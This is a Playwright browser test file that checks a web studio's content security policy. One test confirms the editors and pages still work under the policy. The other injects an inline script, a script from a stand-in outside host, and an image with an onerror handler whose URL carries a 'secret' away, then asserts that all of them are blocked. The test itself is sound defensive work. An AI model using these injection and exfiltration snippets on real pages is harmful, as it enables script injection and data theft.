"""The content security policy, kept by a real browser: the studio works under it, and what slips in does not.

Every other browser test watches for it too: what the policy keeps a page from is a fault of its `Visitor`.
"""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Visitor

pytestmark = pytest.mark.browser


@pytest.mark.usefixtures("two_pictures")
def test_every_page_and_both_editors_work_under_the_policy(visitor: Visitor) -> None:
    """The JSON editor, the read-only one beside a picture, the form, and components whose scripts come from a blob."""
    page = visitor.page
    visitor.open()
    visitor.start_from_json()
    visitor.type_into_editor('{"short_description": }')
    expect(page.get_by_text("This is not JSON")).to_be_visible()
    visitor.type_into_editor('{"short_description": "mine", "objects": [{"description": "a ball"}]}')
    expect(page.get_by_text("10 hints")).to_be_visible()
    visitor.pick("Form")
    expect(page.get_by_role("textbox", name="Short description")).to_have_value("mine")

    visitor.open("/history")
    page.locator("[role=gridcell]").first.click()
    page.get_by_role("button", name="Use the JSON").wait_for()
    expect(page.locator(".fibo-editor .ace_content")).to_contain_text("short_description")
    for path in ("/refine", "/inspire", "/system"):
        visitor.open(path)


def test_what_slips_into_a_page_is_kept_from_running_and_from_telling(visitor: Visitor) -> None:
    """A script in the text or in an attribute, another machine's script, a picture that carries data away."""
    visitor.open()
    sent_nothing: list[str | None] = []
    visitor.page.on("requestfailed", lambda request: sent_nothing.append(request.failure))
    visitor.page.evaluate("""() => {
        const inline = document.createElement("script"), outside = document.createElement("script");
        inline.textContent = "window.slipped = true";
        outside.src = "https://elsewhere.example/x.js";
        const picture = document.createElement("img");
        picture.setAttribute("onerror", "window.slipped = true");
        picture.src = "https://elsewhere.example/?secret";
        document.body.append(inline, outside, picture);
    }""")
    visitor.page.wait_for_timeout(500)
    assert visitor.page.evaluate("window.slipped") is None
    kept_from = [directive for fault in visitor.faults for directive in ("script-src", "img-src") if directive in fault]
    assert kept_from.count("script-src") >= 2
    assert "img-src" in kept_from
    visitor.faults.clear()
    assert sent_nothing == ["csp", "csp"]
    visitor.outside.clear()
